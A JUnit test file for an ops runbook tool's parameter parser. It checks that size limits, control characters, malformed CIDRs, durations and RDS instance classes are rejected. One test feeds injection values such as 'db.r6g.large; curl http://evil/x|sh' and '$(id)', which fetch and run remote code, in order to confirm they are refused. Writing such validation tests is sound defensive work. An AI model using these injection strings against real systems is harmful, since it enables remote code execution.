package io.discordination.ops.runbook;

import io.discordination.ops.OpsException;
import io.discordination.ops.account.UserId;
import io.discordination.ops.livekit.LiveKit;
import io.discordination.ops.rds.RdsIdentifiers;
import io.discordination.ops.s3.Bucket;
import io.discordination.ops.waf.Cidr;
import org.junit.jupiter.api.Test;

import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.function.Function;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

class ParameterTest {
    /** One parameter of every type, with a value it takes. */
    private static final Map<Parameter, String> EVERY_TYPE = Map.ofEntries(
            Map.entry(Parameter.string("s"), "hello"),
            Map.entry(Parameter.secretString("pw"), "s3cret"),
            Map.entry(Parameter.integer("n"), "42"),
            Map.entry(Parameter.duration("d"), "10m"),
            Map.entry(Parameter.userId("u"), "8d3c1f0e-5b7a-4c1e-9f7d-2a6b3c4d5e6f"),
            Map.entry(Parameter.channelId("c"), "1180000000000000101"),
            Map.entry(Parameter.cidr("ip"), "203.0.113.7"),
            Map.entry(Parameter.cidr("ips").many(), "203.0.113.7,198.51.100.0/24"),
            Map.entry(Parameter.choice("ch", "a", "b"), "a"),
            Map.entry(Parameter.snapshotId("snap"), "manual-20240501-101500"),
            Map.entry(Parameter.bool("b"), "true"),
            Map.entry(Parameter.dbInstanceId("target"), "discordination-restore"),
            Map.entry(Parameter.instanceClass("cls"), "db.r6g.large"),
            Map.entry(Parameter.roomName("room"), "voice:1180000000000000101"),
            Map.entry(Parameter.versionId("v"), "3HL4kqtJlcpXroDTDmJ.rmSpXd3dIbrHY"),
            Map.entry(Parameter.fileId("f"), "1183245072950931456"));

    @Test
    void parse_whenTheValueIs120Kilobytes_refusesItForEveryType() {
        String huge = "a".repeat(120 * 1024);
        EVERY_TYPE.forEach((p, good) -> {
            assertThatCode(() -> p.parse(good)).as(p.toString()).doesNotThrowAnyException();
            assertThatThrownBy(() -> p.parse(huge)).as(p.toString()).isInstanceOf(OpsException.InvalidInputException.class)
                    .hasMessageContaining("parameter '" + p.name() + "'").hasMessageContaining("122,880 characters")
                    .satisfies(e -> assertThat(e.getMessage().length()).isLessThan(400));
            assertThatThrownBy(() -> p.parse(good + "," + huge)).as(p.toString()).isInstanceOf(OpsException.InvalidInputException.class);
        });
    }

    @Test
    void parse_whenTheValueHoldsAControlCharacter_refusesItForEveryType() {
        EVERY_TYPE.forEach((p, good) -> {
            for (String bad : List.of(good + "\n", good + "\nx", "\r" + good, good + "\u001b[2K", good + "\u0000")) {
                assertThatThrownBy(() -> p.parse(bad)).as(p + " " + bad).isInstanceOf(OpsException.InvalidInputException.class)
                        .hasMessageContaining("control character");
            }
        });
    }

    @Test
    void parse_whenAStringIsLongerThanTheGenericLimit_refusesIt() {
        Parameter p = Parameter.string("s");
        assertThat(p.parse("x".repeat(Parameter.STRING_MAX))).isEqualTo("x".repeat(Parameter.STRING_MAX));
        assertThatThrownBy(() -> p.parse("x".repeat(Parameter.STRING_MAX + 3))).isInstanceOf(OpsException.InvalidInputException.class);
    }

    @Test
    void parse_whenInstanceClassCarriesAShellCommand_refusesIt() {
        Parameter p = Parameter.instanceClass("instance-class");
        for (String bad : List.of("db.r6g.large; curl http://evil/x|sh", "db.r6g.large$(id)", "DB.R6G.LARGE", "r6g.large", "db.", "db..large",
                "db.r6g.large\nx")) {
            assertThatThrownBy(() -> p.parse(bad)).as(bad).isInstanceOf(OpsException.InvalidInputException.class)
                    .hasMessageContaining("parameter 'instance-class'");
        }
        for (String good : List.of("db.r6g.large", "db.t4g.micro", "db.x2iedn.24xlarge", "db.r5.2xlarge.tpc2.mem4x", "db.serverless")) {
            assertThat(p.parse(good)).isEqualTo(good);
        }
    }

    @Test
    void parse_whenACidrHasHostBitsInAList_refusesTheWholeListBeforeAnythingRuns() {
        Parameter p = Parameter.cidr("block").many();
        assertThatThrownBy(() -> p.parse("203.0.113.9,10.0.0.1/24")).isInstanceOf(OpsException.InvalidInputException.class)
                .hasMessageContaining("parameter 'block': expected an IPv4 or IPv6 address or CIDR")
                .hasMessageContaining("Invalid CIDR '10.0.0.1/24': it has host bits set (did you mean 10.0.0.0/24?); got '203.0.113.9,10.0.0.1/24'");
        assertThatThrownBy(() -> p.parse("2001:db8::1/64")).hasMessageContaining("host bits");
        assertThatThrownBy(() -> p.parse("203.0.113.09")).hasMessageContaining("leading zero");
        assertThat(p.parse("203.0.113.9, 2001:DB8:0:0::0/64")).isEqualTo(List.of("203.0.113.9/32", "2001:db8::/64"));
    }

    /** The parameter types take exactly what the library's own parsers take: one rule, checked before the run. */
    @Test
    void parse_agreesWithTheLibrarysParser_forEveryTypeTheLibraryParses() {
        List<String> samples = List.of("203.0.113.7", "203.0.113.7/24", "10.0.0.0/8", "0.0.0.0/0", "::1", "2001:db8::/32", "2001:db8::1/32",
                "::ffff:1.2.3.4", "db.r6g.large", "db.R6G.large", "discordination-restore", "a--b", "a-", "9abc", "rds:prod-2024-05-01",
                "voice:1180000000000000101", "voice 1", "-x", "null", "3HL4kqtJ+lcp/X=", "a b", "8d3c1f0e-5b7a-4c1e-9f7d-2a6b3c4d5e6f",
                "8D3C1F0E-5B7A-4C1E-9F7D-2A6B3C4D5E6F", "8d3c1f0e5b7a4c1e9f7d2a6b3c4d5e6f", "x".repeat(64), "x".repeat(300));
        agree(Parameter.cidr("p"), s -> Cidr.parse(s).toString(), samples);
        agree(Parameter.instanceClass("p"), RdsIdentifiers::requireInstanceClass, samples);
        agree(Parameter.dbInstanceId("p"), RdsIdentifiers::requireInstanceId, samples);
        agree(Parameter.snapshotId("p"), RdsIdentifiers::requireExistingSnapshotId, samples);
        agree(Parameter.roomName("p"), LiveKit::requireRoomName, samples);
        agree(Parameter.versionId("p"), Bucket::requireVersionId, samples);
        agree(Parameter.userId("p"), s -> UserId.parse(s).toString(), samples);
    }

    private static void agree(Parameter p, Function<String, String> library, List<String> samples) {
        for (String s : samples) {
            String byLibrary;
            try {
                byLibrary = library.apply(s);
            } catch (OpsException.InvalidInputException e) {
                byLibrary = null;
            }
            if (byLibrary == null) {
                assertThatThrownBy(() -> p.parse(s)).as(p.type() + " " + s).isInstanceOf(OpsException.InvalidInputException.class);
            } else {
                assertThat(p.parse(s)).as(p.type() + " " + s).isEqualTo(byLibrary);
            }
        }
    }

    @Test
    void parse_whenADurationIsHugeOrNegative_isBadInput() {
        Parameter p = Parameter.duration("since");
        for (String bad : List.of("99999999999999999999m", "9223372036854775807d", "366d", "PT-10M")) {
            assertThatThrownBy(() -> p.parse(bad)).as(bad).isInstanceOf(OpsException.InvalidInputException.class)
                    .hasMessageContaining("parameter 'since': expected a duration");
        }
        assertThat(p.parse("365d")).isEqualTo(Duration.ofDays(365));
    }

    @Test
    void fromOptions_whenGroovyNamesTheNewTypes_findsThem() {
        for (String label : List.of("instanceClass", "dbInstanceId", "room", "versionId", "fileId")) {
            assertThat(Parameter.ofType("p", label).type().label()).isEqualTo(label);
        }
    }
}
